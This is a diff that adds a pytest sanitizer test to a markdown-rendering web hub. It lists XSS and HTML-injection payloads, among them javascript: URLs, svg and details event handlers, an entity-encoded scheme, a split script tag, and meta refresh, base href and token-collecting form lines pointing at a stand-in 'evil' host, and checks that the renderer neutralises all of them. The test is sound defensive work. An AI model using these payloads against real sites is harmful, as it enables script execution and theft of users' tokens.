@@ -210,3 +210,25 @@ def test_server_requiring_tokens_sends_visitors_to_sign_in(make_hub_server) -> N
         assert _sign_in(client, token).status_code == 303
         assert client.get("/").status_code == 200 and client.get("/ann").status_code == 200
         assert client.get("/api/models").status_code == 401  # the cookie signs in pages, never the API
+
+
+@pytest.mark.parametrize("attack", [
+    '<a href="JaVaScRiPt:alert(1)">x</a>', "[x](javascript:alert(1))", '<svg onload="alert(1)"><circle/></svg>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>">', "<style>body{display:none}</style>",
+    '<meta http-equiv="refresh" content="0;url=http://evil">', '<base href="http://evil/">',
+    '<form action="http://evil"><input name=token></form>', '<object data="x.swf"></object>',
+    '<a href="&#106;avascript:alert(1)">x</a>', "<details open ontoggle=alert(1)><summary>s</summary></details>",
+    '<p style="background:url(javascript:alert(1))">x</p>', "<scr<script>ipt>alert(1)</script>",
+])
+def test_card_markup_attacks_leave_nothing_active(attack: str) -> None:
+    from zoolab.hub.server.pages.render import render_markdown
+
+    html = render_markdown(f"# Card\n\n{attack}\n")
+    tags = tags_of(html)
+    names = {tag for tag, _ in tags}
+    assert not names & {"script", "svg", "style", "meta", "base", "form", "input", "object", "iframe"}
+    for _, attrs in tags:
+        assert not [name for name in attrs if name.startswith("on") or name == "style"]
+        for key in ("href", "src"):
+            assert not (attrs.get(key) or "").lower().startswith(("javascript:", "data:")), html
+    assert "<h1>Card</h1>" in html
